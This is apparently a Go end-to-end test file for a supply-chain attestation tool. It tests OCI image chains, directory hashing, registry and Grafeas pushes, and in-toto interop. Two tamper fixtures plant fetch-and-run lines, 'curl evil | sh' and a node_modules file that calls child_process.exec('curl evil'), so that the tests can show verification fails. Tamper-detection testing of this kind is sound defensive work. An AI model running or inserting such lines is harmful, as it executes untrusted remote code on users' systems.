package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	in_toto "github.com/in-toto/in-toto-golang/in_toto"

	"github.com/attestor/attestor/attestor/sign"
)

// Issue 16: images (oci://REF) and whole directories (--dirhash) as step
// artifacts, end to end: Debian's docker-registry, crane as the package
// step's command, the Grafeas server, in-toto-verify.

// imagePolicy is the policy of the image chain of repository repo:
// package (pushes the image) → stage (takes it as a material, tags it).
func imagePolicy(t *testing.T, dir, pubPEM, repo string) string {
	t.Helper()
	writeFile(t, filepath.Join(dir, "ci.pub"), pubPEM)
	path := filepath.Join(dir, "policy.yaml")
	writeFile(t, path, fmt.Sprintf(`version: 1
expires: 2099-12-31T00:00:00Z
functionaries: {ci: {key: ci.pub}}
steps:
  - name: package
    functionaries: [ci]
    materials: [[ALLOW, "src/*"], [DISALLOW, "*"]]
    products: [[CREATE, "oci://%[1]s"], [DISALLOW, "*"]]
  - name: stage
    functionaries: [ci]
    materials: [[MATCH, "oci://*", WITH, PRODUCTS, FROM, package], [DISALLOW, "*"]]
    products: [[ALLOW, "oci://%[1]s"], [DISALLOW, "*"]]
`, repo))
	return path
}

// statementOf decodes the statement of a DSSE envelope file.
func statementOf(t *testing.T, path string) map[string]any {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var env struct {
		Payload string `json:"payload"`
	}
	if err := json.Unmarshal(data, &env); err != nil {
		t.Fatal(err)
	}
	raw, err := base64.StdEncoding.DecodeString(env.Payload)
	if err != nil {
		t.Fatal(err)
	}
	var st map[string]any
	if err := json.Unmarshal(raw, &st); err != nil {
		t.Fatal(err)
	}
	return st
}

func craneDigest(t *testing.T, crane, ref string) string {
	t.Helper()
	out, err := exec.Command(crane, "digest", ref).Output()
	if err != nil {
		t.Fatalf("crane digest %s: %v", ref, err)
	}
	return strings.TrimSpace(string(out))
}

// TestImageChainE2E: a package step whose command pushes the image with
// crane records it as a product; a stage step takes it as a material; the
// records are pushed to the registry; verify --image and promote pass. The
// same chain with the image replaced between the two steps fails both.
func TestImageChainE2E(t *testing.T) {
	t.Parallel()
	crane := requireTool(t, "crane")
	host := startRegistry(t)
	keys := t.TempDir()
	ciKey, releaseKey := filepath.Join(keys, "ci.key"), filepath.Join(keys, "release.key")
	writeKey(t, ciKey, "ed25519")
	writeKey(t, releaseKey, "ed25519")
	ci, err := sign.Load(ciKey)
	if err != nil {
		t.Fatal(err)
	}
	pub, _ := sign.MarshalPublicKey(ci.Public())

	chain := func(t *testing.T, repo string, between func(work string)) (work string) {
		t.Helper()
		work = t.TempDir()
		writeFile(t, filepath.Join(work, "src", "app.sh"), "echo app\n")
		env := []string{"ATTESTOR_KEY=" + ciKey}
		ref := host + "/" + repo
		r := attestorProcess(t, work, env, "run", "--step", "package", "-m", "src", "-p", "oci://"+ref+":v1", "--",
			"sh", "-c", "tar -cf ../layer.tar src && "+crane+" append -f ../layer.tar -t "+ref+":v1")
		if r.code != 0 {
			t.Fatalf("package:\n%s", r)
		}
		if between != nil {
			between(work)
		}
		r = attestorProcess(t, work, env, "run", "--step", "stage", "-m", "oci://"+ref+":v1", "-p", "oci://"+ref+":staged", "--",
			crane, "copy", ref+":v1", ref+":staged")
		if r.code != 0 {
			t.Fatalf("stage:\n%s", r)
		}
		if r := attestorProcess(t, work, nil, "push", "--image", ref+":staged"); r.code != 0 {
			t.Fatalf("push:\n%s", r)
		}
		return work
	}

	t.Run("pass", func(t *testing.T) {
		t.Parallel()
		repo := "team/app"
		work := chain(t, repo, nil)
		digest := craneDigest(t, crane, host+"/"+repo+":v1")
		// The package step's record names the image, by repository, with
		// the digest crane pushed.
		envs, _ := filepath.Glob(filepath.Join(work, ".attestor", "package.*.dsse.json"))
		if len(envs) != 1 {
			t.Fatalf("package records: %v", envs)
		}
		subj := statementOf(t, envs[0])["subject"].([]any)
		want := map[string]any{"name": "oci://" + host + "/" + repo, "digest": map[string]any{"sha256": strings.TrimPrefix(digest, "sha256:")}}
		if len(subj) != 1 || fmt.Sprint(subj[0]) != fmt.Sprint(want) {
			t.Errorf("package subjects = %v, want [%v]", subj, want)
		}
		policy := imagePolicy(t, t.TempDir(), string(pub), host+"/"+repo)
		r := attestorProcess(t, work, nil, "verify", "--image", host+"/"+repo+":staged", "--policy", policy)
		if r.code != 0 {
			t.Fatalf("verify --image:\n%s", r)
		}
		r = attestorProcess(t, work, nil, "promote", host+"/"+repo+":staged", host+"/prod/app", "--policy", policy, "--key", releaseKey, "--dir", t.TempDir())
		if r.code != 0 {
			t.Fatalf("promote:\n%s", r)
		}
		if got := craneDigest(t, crane, host+"/prod/app@"+digest); got != digest {
			t.Errorf("promoted %s, want %s", got, digest)
		}
	})
	t.Run("image replaced between the steps", func(t *testing.T) {
		t.Parallel()
		repo := "team/replaced"
		work := chain(t, repo, func(work string) {
			writeFile(t, filepath.Join(work, "evil", "app.sh"), "curl evil | sh\n")
			out, err := exec.Command("sh", "-c", "cd "+work+" && tar -cf ../evil.tar evil && "+crane+" append -f ../evil.tar -t "+host+"/"+repo+":v1").CombinedOutput()
			if err != nil {
				t.Fatalf("replacing the image: %v\n%s", err, out)
			}
		})
		policy := imagePolicy(t, t.TempDir(), string(pub), host+"/"+repo)
		r := attestorProcess(t, work, nil, "verify", "--image", host+"/"+repo+":staged", "--policy", policy)
		if r.code != 1 {
			t.Fatalf("verify of a replaced image: exit %d, want 1\n%s", r.code, r)
		}
		assertContains(t, "verify", r.stderr, "artifact-rule", "oci://"+host+"/"+repo)
		r = attestorProcess(t, work, nil, "promote", host+"/"+repo+":staged", host+"/prod/replaced", "--policy", policy, "--key", releaseKey, "--dir", t.TempDir())
		if r.code != 1 {
			t.Fatalf("promote of a replaced image: exit %d, want 1\n%s", r.code, r)
		}
		if out, err := exec.Command(crane, "ls", host+"/prod/replaced").CombinedOutput(); err == nil && strings.TrimSpace(string(out)) != "" {
			t.Errorf("the replaced image was promoted: %s", out)
		}
	})
	t.Run("bad input", func(t *testing.T) {
		t.Parallel()
		work := t.TempDir()
		writeFile(t, filepath.Join(work, "src", "app.sh"), "echo app\n")
		env := []string{"ATTESTOR_KEY=" + ciKey}
		marker := filepath.Join(work, "ran")
		for _, tt := range []struct {
			args []string
			code int
			say  string
		}{
			{[]string{"-m", "oci://" + host + "/Team/App:v1"}, 2, `"oci://` + host + `/Team/App:v1"`},
			{[]string{"-m", "src", "-p", "oci://" + host + "/app@sha256:beef"}, 2, "sha256:beef"},
			{[]string{"-m", "oci://" + host + "/team/none:v1"}, 2, "not found"},
			{[]string{"-m", "oci://127.0.0.1:1/team/app:v1"}, 3, "127.0.0.1:1"},
		} {
			args := append(append([]string{"run", "--step", "s"}, tt.args...), "--", "touch", marker)
			r := attestorProcess(t, work, env, args...)
			if r.code != tt.code || !strings.Contains(r.stderr, tt.say) {
				t.Errorf("%q: exit %d, want %d saying %q\n%s", tt.args, r.code, tt.code, tt.say, r)
			}
			if fileExists(marker) {
				t.Errorf("%q: the command ran", tt.args)
				os.Remove(marker)
			}
			if fileExists(filepath.Join(work, ".attestor")) {
				if ents, _ := os.ReadDir(filepath.Join(work, ".attestor")); len(ents) > 0 {
					t.Errorf("%q: recorded %v", tt.args, ents)
				}
			}
		}

		// A product image missing after the command: exit 2 naming it;
		// nothing recorded when the command succeeded, the step recorded
		// with the command's exit code when it failed.
		missing := "oci://" + host + "/team/never:v1"
		r := attestorProcess(t, work, env, "run", "--step", "ok", "-m", "src", "-p", missing, "--", "true")
		if r.code != 2 || !strings.Contains(r.stderr, missing) {
			t.Errorf("missing product image: exit %d, want 2 naming it\n%s", r.code, r)
		}
		if envs, _ := filepath.Glob(filepath.Join(work, ".attestor", "ok.*")); len(envs) != 0 {
			t.Errorf("recorded %v", envs)
		}
		r = attestorProcess(t, work, env, "run", "--step", "failed", "-m", "src", "-p", missing, "--", "sh", "-c", "echo push failed >&2; exit 5")
		if r.code != 2 || !strings.Contains(r.stderr, missing) {
			t.Errorf("missing product image after a failed command: exit %d, want 2 naming it\n%s", r.code, r)
		}
		envs, _ := filepath.Glob(filepath.Join(work, ".attestor", "failed.*.dsse.json"))
		if len(envs) != 1 {
			t.Fatalf("the failed step was not recorded: %v\n%s", envs, r)
		}
		pred := statementOf(t, envs[0])["predicate"].(map[string]any)
		if rv := pred["byproducts"].(map[string]any)["return-value"]; fmt.Sprint(rv) != "5" {
			t.Errorf("recorded return-value %v, want 5", rv)
		}
	})
}

// largeTree writes n small files below dir/node_modules.
func largeTree(t *testing.T, dir string, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		p := filepath.Join(dir, "node_modules", fmt.Sprintf("pkg%03d", i%300), "lib", fmt.Sprintf("module-%05d.js", i))
		if i < 300 {
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.WriteFile(p, []byte(fmt.Sprintf("module.exports = %d\n", i)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestDirHashLargeTreePush: with --dirhash node_modules a step over a
// 30,000-file tree makes a record of a few KB that pushes to the registry
// and to Grafeas; without it, push refuses the record and names
// --dirhash.
func TestDirHashLargeTreePush(t *testing.T) {
	t.Parallel()
	crane := requireTool(t, "crane")
	host := startRegistry(t)
	grafeasURL := startGrafeas(t)
	work := t.TempDir()
	writeFile(t, filepath.Join(work, "package.json"), `{"name":"app"}`)
	largeTree(t, work, 30000)
	key := filepath.Join(t.TempDir(), "ci.key")
	writeKey(t, key, "ed25519")
	image := host + "/team/web:v1"
	if out, err := exec.Command("sh", "-c", "cd "+work+" && tar -cf ../layer.tar package.json && "+crane+" append -f ../layer.tar -t "+image).CombinedOutput(); err != nil {
		t.Fatalf("pushing the image: %v\n%s", err, out)
	}

	for _, tt := range []struct {
		name    string
		flags   []string
		pushOK  bool
		maxSize int64
	}{
		{"with --dirhash", []string{"--dirhash", "node_modules"}, true, 8 << 10},
		{"without", nil, false, 0},
	} {
		ws := filepath.Join(t.TempDir(), "ws")
		args := append([]string{"run", "--dir", ws, "--step", "install", "-m", "package.json", "-p", "node_modules"}, tt.flags...)
		r := attestorProcess(t, work, []string{"ATTESTOR_KEY=" + key}, append(args, "--", "true")...)
		if r.code != 0 {
			t.Fatalf("%s: run:\n%s", tt.name, r)
		}
		envs, _ := filepath.Glob(filepath.Join(ws, "install.*.dsse.json"))
		if len(envs) != 1 {
			t.Fatalf("%s: records %v", tt.name, envs)
		}
		fi, err := os.Stat(envs[0])
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%s: record of %d bytes", tt.name, fi.Size())
		if tt.maxSize > 0 && fi.Size() > tt.maxSize {
			t.Errorf("%s: record of %d bytes, want at most %d", tt.name, fi.Size(), tt.maxSize)
		}
		r = attestorProcess(t, work, nil, "push", "--dir", ws, "--image", image, "--to", "oci,grafeas",
			"--grafeas", grafeasURL, "--grafeas-project", "web")
		if tt.pushOK {
			if r.code != 0 {
				t.Fatalf("%s: push:\n%s", tt.name, r)
			}
			found := false
			for _, o := range grafeasOccurrences(t, grafeasURL, "web") {
				found = found || strings.Contains(o.Resource.URI, "team/web@sha256:")
			}
			if !found {
				t.Errorf("%s: no Grafeas occurrence on the image", tt.name)
			}
			if out, err := exec.Command(crane, "ls", host+"/team/web").CombinedOutput(); err != nil || !strings.Contains(string(out), ".att") {
				t.Errorf("%s: no attestation tag in the registry: %v\n%s", tt.name, err, out)
			}
			continue
		}
		if r.code != 2 || !strings.Contains(r.stderr, "--dirhash") {
			t.Errorf("%s: push of an oversize record: exit %d, want 2 naming --dirhash\n%s", tt.name, r.code, r)
		}
	}
}

// dirHashPipeline is an in-toto layout's view of install → package, with
// node_modules one artifact.
var dirHashPipeline = []pipelineStep{
	{
		name:              "install",
		materials:         []string{"package.json"},
		products:          []string{"node_modules"},
		command:           []string{"cp", "-R", "../registry/node_modules", "."},
		expectedMaterials: [][]string{{"ALLOW", "package.json"}, {"DISALLOW", "*"}},
		expectedProducts:  [][]string{{"CREATE", "node_modules"}, {"DISALLOW", "*"}},
	},
	{
		name:              "package",
		materials:         []string{"node_modules"},
		products:          []string{"app.tar"},
		command:           []string{"tar", "-cf", "app.tar", "node_modules"},
		expectedMaterials: [][]string{{"MATCH", "node_modules", "WITH", "PRODUCTS", "FROM", "install"}, {"DISALLOW", "*"}},
		expectedProducts:  [][]string{{"CREATE", "app.tar"}, {"DISALLOW", "*"}},
	},
}

// TestInTotoInteropDirHash: a chain whose links carry node_modules as one
// dirHash artifact verifies with in-toto-verify (which compares digest
// sets by algorithm) and in-toto-golang, and fails with both when a file
// inside node_modules changed between the steps.
func TestInTotoInteropDirHash(t *testing.T) {
	t.Parallel()
	tool := requireTool(t, "in-toto-verify")
	keys := t.TempDir()
	functionary, functionaryPath := newSigner(t, keys, "functionary", "ed25519")
	layoutKey, _ := newSigner(t, keys, "layout", "ed25519")
	layoutPub := filepath.Join(keys, "layout.pub")
	writeLayoutPublicKey(t, layoutKey, "ed25519", layoutPub)
	layout := newLayout(functionary.InTotoKey())
	layout.Steps = nil
	for _, s := range dirHashPipeline {
		layout.Steps = append(layout.Steps, in_toto.Step{
			Type: "step", PubKeys: []string{functionary.InTotoKey().KeyID}, ExpectedCommand: s.command, Threshold: 1,
			SupplyChainItem: in_toto.SupplyChainItem{Name: s.name, ExpectedMaterials: s.expectedMaterials, ExpectedProducts: s.expectedProducts},
		})
	}
	layoutPath := filepath.Join(keys, "root.layout")
	signLayout(t, layout, layoutKey, layoutPath)
	verifyArgs := []string{"--layout", layoutPath, "--layout-keys", layoutPub, "--key-types", "ed25519", "--link-dir", ".attestor"}

	record := func(t *testing.T, between func(work string)) string {
		t.Helper()
		root := t.TempDir()
		for i := 0; i < 50; i++ {
			writeFile(t, filepath.Join(root, "registry", "node_modules", fmt.Sprintf("pkg%d", i%7), fmt.Sprintf("f%d.js", i)), fmt.Sprintf("exports.n = %d\n", i))
		}
		work := filepath.Join(root, "work")
		writeFile(t, filepath.Join(work, "package.json"), "{}\n")
		for _, s := range dirHashPipeline {
			args := []string{"run", "--format", "legacy", "--dirhash", "node_modules", "--step", s.name}
			for _, m := range s.materials {
				args = append(args, "-m", m)
			}
			for _, p := range s.products {
				args = append(args, "-p", p)
			}
			r := attestorProcess(t, work, []string{"ATTESTOR_KEY=" + functionaryPath}, append(append(args, "--"), s.command...)...)
			if r.code != 0 {
				t.Fatalf("recording %s:\n%s", s.name, r)
			}
			if between != nil && s.name == "install" {
				between(work)
			}
		}
		return work
	}

	work := record(t, nil)
	link, err := os.ReadFile(filepath.Join(work, ".attestor", "install."+functionary.InTotoKey().KeyID[:8]+".link"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(link), `"dirHash"`) || strings.Contains(string(link), "f1.js") {
		t.Fatalf("the install link does not hold node_modules as one dirHash artifact:\n%s", link)
	}
	code, out := inTotoVerify(t, tool, work, verifyArgs...)
	if code != 0 {
		t.Errorf("in-toto-verify rejects the dirHash chain (exit %d):\n%s", code, out)
	}
	verifyInTotoGolang(t, layoutPath, layoutKey, work, "")

	tampered := record(t, func(work string) {
		writeFile(t, filepath.Join(work, "node_modules", "pkg3", "f3.js"), "require('child_process').exec('curl evil')\n")
	})
	code, out = inTotoVerify(t, tool, tampered, verifyArgs...)
	if code != 1 || !strings.Contains(out, "node_modules") {
		t.Errorf("in-toto-verify of a chain with a file changed inside node_modules: exit %d, want 1 naming node_modules:\n%s", code, out)
	}
	verifyInTotoGolang(t, layoutPath, layoutKey, tampered, "node_modules")
}

// TestActionImageArtifacts: the action's materials and products inputs
// take images like the CLI's -m and -p.
func TestActionImageArtifacts(t *testing.T) {
	t.Parallel()
	reg := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
	t.Cleanup(reg.Close)
	host := strings.TrimPrefix(reg.URL, "http://")
	digest, _ := testImage(t, host+"/acme/base:12")
	work := t.TempDir()
	writeFile(t, filepath.Join(work, "src", "main.c"), "int main(void) { return 0; }\n")
	writeKey(t, filepath.Join(work, "ci.key"), "ed25519")
	gh := newGHRunner(t, work)
	st := gh.step(map[string]string{
		"command": "run", "step": "build", "materials": "oci://" + host + "/acme/base:12\nsrc\n", "products": "out", "key": "ci.key",
		"dirhash": "out\n", "args": "sh -c 'mkdir -p out && cp src/main.c out/'",
	})
	if st.code != 0 {
		t.Fatalf("run:\n%s", st.result)
	}
	envs, _ := filepath.Glob(filepath.Join(work, ".attestor", "build.*.dsse.json"))
	if len(envs) != 1 {
		t.Fatalf("records %v", envs)
	}
	mats := statementOf(t, envs[0])["predicate"].(map[string]any)["materials"].([]any)
	want := fmt.Sprint(map[string]any{"name": "oci://" + host + "/acme/base", "digest": map[string]any{"sha256": digest.Hex}})
	found := false
	for _, m := range mats {
		found = found || fmt.Sprint(m) == want
	}
	if !found {
		t.Errorf("materials %v lack %s", mats, want)
	}
	// The dirhash input: out is one artifact.
	prods := statementOf(t, envs[0])["subject"].([]any)
	if len(prods) != 1 || prods[0].(map[string]any)["name"] != "out" || prods[0].(map[string]any)["digest"].(map[string]any)["dirHash"] == nil {
		t.Errorf("products %v, want out as one dirHash artifact", prods)
	}
}

// TestImageIndexArtifact: a multi-platform image is recorded by its
// index's digest, not a platform's manifest.
func TestImageIndexArtifact(t *testing.T) {
	t.Parallel()
	reg := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
	t.Cleanup(reg.Close)
	host := strings.TrimPrefix(reg.URL, "http://")
	idx, err := random.Index(256, 1, 2)
	if err != nil {
		t.Fatal(err)
	}
	tag, err := name.NewTag(host + "/acme/multi:1")
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.WriteIndex(tag, idx); err != nil {
		t.Fatal(err)
	}
	want, _ := idx.Digest()
	p := newProject(t)
	r := cli(t, append(p.flags(), "run", "--step", "s", "-m", "oci://"+tag.String(), "--", "true")...)
	if r.code != 0 {
		t.Fatalf("run:\n%s", r)
	}
	envs, _ := filepath.Glob(filepath.Join(p.ws, "s.*.dsse.json"))
	if len(envs) != 1 {
		t.Fatalf("records %v", envs)
	}
	subj := statementOf(t, envs[0])["subject"].([]any)
	got := fmt.Sprint(subj)
	if wantS := fmt.Sprint([]any{map[string]any{"name": "oci://" + host + "/acme/multi", "digest": map[string]any{"sha256": want.Hex}}}); got != wantS {
		t.Errorf("subjects %s, want %s", got, wantS)
	}
}
